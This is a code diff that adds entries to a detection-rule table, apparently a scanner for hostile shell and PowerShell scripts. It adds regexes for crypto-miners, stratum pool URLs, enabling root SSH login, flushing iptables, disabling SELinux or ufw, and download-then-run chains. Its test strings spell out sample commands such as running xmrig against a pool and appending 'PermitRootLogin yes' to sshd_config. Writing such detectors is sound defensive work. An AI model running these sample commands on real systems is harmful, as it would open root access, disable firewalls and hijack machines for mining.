@@ -81,6 +81,20 @@ export const SCRIPT_ROWS: readonly Row[] = [
   },
   {
     rule: ATTACKING_SCRIPT,
+    pattern:
+      /\b(?:xmrig|minerd|cpuminer|ethminer|nbminer|phoenixminer)\b|stratum\+(?:tcp|ssl):\/\/|\bPermitRootLogin\s+yes\b[^\n]*>>?|>>?\s*"?\/etc\/ssh\/sshd_config|\biptables\s+-F\b|\bsetenforce\s+0\b|\bufw\s+disable\b/,
+    fires: ['./xmrig -o pool.example.org:3333', 'echo "PermitRootLogin yes" >> /etc/ssh/sshd_config', 'iptables -F'],
+    quiet: ['iptables -L', 'cat /etc/ssh/sshd_config', 'ufw status'],
+  },
+  {
+    rule: FETCHED_CODE,
+    pattern:
+      /\.DownloadFile\(\s*["'][^"']{4,200}["']\s*,\s*["']([^"']{1,100})["'][^\n]*(?:Start-Process|Invoke-Item|&|;)\s*["']?\S{0,60}\1/i,
+    fires: ['$c.DownloadFile("http://127.0.0.1:9/x.exe", "x.exe"); Start-Process x.exe'],
+    quiet: ['$c.DownloadFile("https://example.org/model.bin", "model.bin")'],
+  },
+  {
+    rule: ATTACKING_SCRIPT,
     // A command that is spelt by the codes of its letters.
     pattern:
       /(?:\beval\b[^\n]{0,20}|\|\s*(?:ba|z|da)?sh\b.{0,3}<<<?\s*["']?|\b(?:ba|z|da)?sh\s+-c\s+["']?)\$?[(`"']{0,3}\s*(?:printf|echo\s+-n?e)?\s*["']?(?:\\(?:x[0-9a-f]{2}|0?[0-7]{3})){3}/i,
